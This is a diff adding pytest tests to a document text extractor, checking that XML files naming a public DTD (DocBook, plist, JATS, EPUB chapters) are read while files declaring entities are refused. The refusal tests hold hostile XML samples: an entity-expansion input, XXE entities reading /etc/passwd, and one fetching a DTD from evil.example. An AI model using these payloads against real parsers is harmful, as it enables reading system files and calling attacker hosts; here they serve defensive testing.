@@ -440,3 +440,86 @@ def test_a_docx_style_without_a_name_is_read() -> None:
     doc.save(out)
     text = "\n".join(b.text for b in extract_file(out.getvalue(), "clauses.docx", LIMITS).document.blocks)
     assert "delivers the pallets within ten days" in text
+
+
+DOCBOOK = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN"'
+    b' "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">\n'
+    b"<book><title>Loading guide</title><para>Pallets ship on Monday &mdash; always &amp; on time."
+    b" Ask &product; support.</para></book>"
+)
+PLIST = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
+    b' "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
+    b'<plist version="1.0"><dict><key>Name</key><string>Pallet tracker</string></dict></plist>'
+)
+JATS = (
+    b'<?xml version="1.0"?>\n<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Publishing DTD v1.2'
+    b' 20190208//EN" "JATS-journalpublishing1.dtd">\n'
+    b"<article><front><article-meta><title-group><article-title>Freight in winter</article-title>"
+    b"</title-group></article-meta></front><body><p>Delays grew by 12&#x00A0;%.</p></body></article>"
+)
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (DOCBOOK, ["Loading guide", "Pallets ship on Monday \u2014 always & on time.", "&product;"]),
+        (PLIST, ["Pallet tracker"]),
+        (JATS, ["Freight in winter", "Delays grew by 12\u00a0%."]),
+    ],
+)
+def test_a_public_doctype_is_no_attack(data: bytes, expected: list[str]) -> None:
+    """Before, any <!DOCTYPE ended REJECTED_XML_ENTITY: DocBook, JATS, plists and XHTML name their DTD.
+    The DTD is never fetched; a named reference it would define reads as HTML's (or as its name)."""
+    text = "\n".join(b.text for b in extract_file(data, "doc.xml", LIMITS).document.blocks)
+    for piece in expected:
+        assert piece in text
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
+        b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>',
+        b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><f>x</f>',
+    ],
+)
+def test_declared_entities_are_still_refused(data: bytes) -> None:
+    assert outcome_of(data, "doc.xml") is Outcome.REJECTED_XML_ENTITY
+
+
+def test_an_epub_whose_parts_name_their_dtd_is_read() -> None:
+    """EPUB 2 chapters and the NCX name their DTD; an entity declaration in a part is still refused."""
+
+    def epub(chapter_head: bytes) -> bytes:
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as z:
+            z.writestr("mimetype", "application/epub+zip", compress_type=zipfile.ZIP_STORED)
+            z.writestr(
+                "META-INF/container.xml",
+                '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
+                '<rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/>'
+                "</rootfiles></container>",
+            )
+            z.writestr(
+                "OEBPS/content.opf",
+                '<?xml version="1.0"?>'
+                '<package xmlns="http://www.idpf.org/2007/opf" version="2.0" unique-identifier="id">'
+                '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Freight</dc:title>'
+                '<dc:identifier id="id">x</dc:identifier><dc:language>en</dc:language></metadata>'
+                '<manifest><item id="c1" href="c1.xml" media-type="application/xhtml+xml"/></manifest>'
+                '<spine><itemref idref="c1"/></spine></package>',
+            )
+            z.writestr(
+                "OEBPS/c1.xml",
+                b'<?xml version="1.0"?>\n' + chapter_head + b'\n<html xmlns="http://www.w3.org/1999/xhtml">'
+                b"<head><title>One</title></head><body><p>Winter freight slows at the border.</p></body></html>",
+            )
+        return out.getvalue()
+
+    xhtml = b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">'
+    text = "\n".join(b.text for b in extract_file(epub(xhtml), "freight.epub", LIMITS).document.blocks)
+    assert "Winter freight slows at the border." in text
+    declared = b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    assert outcome_of(epub(declared), "freight.epub") is Outcome.REJECTED_XML_ENTITY
